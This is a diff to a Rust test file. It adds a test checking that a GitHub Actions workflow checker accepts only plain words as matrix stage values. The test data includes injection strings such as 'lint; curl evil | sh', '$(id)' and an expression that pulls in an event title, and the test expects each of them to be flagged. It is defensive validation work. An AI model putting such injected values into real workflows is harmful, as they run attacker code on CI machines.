@@ -50,6 +50,24 @@ fn each_is_found(table: &[Row<'_>]) {
 }
 
 #[test]
+fn a_matrix_holds_plain_words() {
+    let with = |stages: &str| {
+        let strategy = format!("    timeout-minutes: 60\n    strategy: {{matrix: {{stage: {stages}}}}}\n");
+        check(&GOOD.replacen("    timeout-minutes: 60\n", &strategy, 1))
+    };
+    assert_eq!(with("[lint, build deploy, '1.89']"), []);
+    for bad in
+        ["['lint; curl evil | sh']", "['$(id)']", "\"${{ fromJSON(github.event.title) }}\"", "[\"a\\nb\"]"]
+    {
+        let faults = with(bad);
+        assert!(
+            faults.iter().any(|fault| fault.message.contains("expected plain words")),
+            "{bad}: {faults:?}"
+        );
+    }
+}
+
+#[test]
 fn rights_and_bounds() {
     let on = "on: {push: {branches: [main]}}";
     each_is_found(&[
